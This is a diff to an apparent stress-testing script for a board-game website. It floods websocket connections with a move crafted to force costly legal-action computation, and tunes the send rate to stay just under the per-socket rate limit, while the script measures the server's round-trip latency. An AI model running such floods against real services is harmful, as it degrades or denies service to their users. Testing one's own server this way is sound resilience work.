@@ -39,8 +39,10 @@ PER_WRITE = 600
 """Frames in one write: 60,000 a second for each socket."""
 WALLS = 80
 """Actions on a board before its flood of moves: many walls make the legal actions expensive."""
-MOVES_PER_S = 20
-"""Move texts a second for each socket: the limit for messages."""
+MOVES_PER_S = 19
+"""Move texts a second for each socket: just below the limit; that of an address is four times as high."""
+SETTLE_S = {"moves": 15.0}
+"""How long floods need to begin, if it is more than a second."""
 MOVE = json.dumps({"type": "submit-move", "move": ">a1.>a1"})
 """A move whose second wall is refused after the legal actions behind the first were computed."""
 
@@ -77,22 +79,24 @@ async def flood_moves(address: str) -> None:
     tokens = host["hostToken"], guest["token"]
     async with contextlib.AsyncExitStack() as stack:
         sockets = [await stack.enter_async_context(connect(path + each, local_addr=ATTACKER)) for each in tokens]
+        side = 0
         for ply, action in enumerate(long_line(LARGE, WALLS)):
-            await _acted(sockets, ply, action)
-        path = path.replace("/ws/play/", "/ws/games/")
-        both = [await stack.enter_async_context(connect(path + each, local_addr=ATTACKER)) for each in tokens]
-        readers = [asyncio.create_task(_drain(each)) for each in (*sockets, *both)]
+            side = await _turn(sockets[side], ply)
+            await sockets[side].send(json.dumps({"type": "act", "action": action, "ply": ply}))
+        side = await _turn(sockets[side], WALLS)
+        path = path.replace("/ws/play/", "/ws/games/") + tokens[side]
+        mover = await stack.enter_async_context(connect(path, local_addr=ATTACKER))
+        readers = [asyncio.create_task(_drain(each)) for each in (*sockets, mover)]
         while not readers[-1].done():
-            for each in both:
-                await each.send(MOVE)
+            await mover.send(MOVE)
             await asyncio.sleep(1 / MOVES_PER_S)
 
 
-async def _acted(sockets: list[ClientConnection], ply: int, action: int) -> None:
-    """Let the side to move act when the site shows the position after `ply` actions."""
-    while (state := json.loads(await sockets[0].recv())).get("ply") != ply:
+async def _turn(socket: ClientConnection, ply: int) -> int:
+    """Return the side to move after `ply` actions, as the site tells the side that has acted last."""
+    while (state := json.loads(await socket.recv())).get("ply") != ply:
         pass
-    await sockets[state["toPlay"]].send(json.dumps({"type": "act", "action": action, "ply": ply}))
+    return int(state["toPlay"])
 
 
 async def _drain(socket: ClientConnection) -> None:
@@ -164,7 +168,7 @@ def main() -> None:
             other = flood and multiprocessing.Process(target=attack, args=(address, flood, options.sockets))
             if other:
                 other.start()
-                time.sleep(1.0)
+                time.sleep(SETTLE_S.get(str(flood), 1.0))
             found = asyncio.run(round_trips(address, options.seconds))
             if other:
                 other.kill()
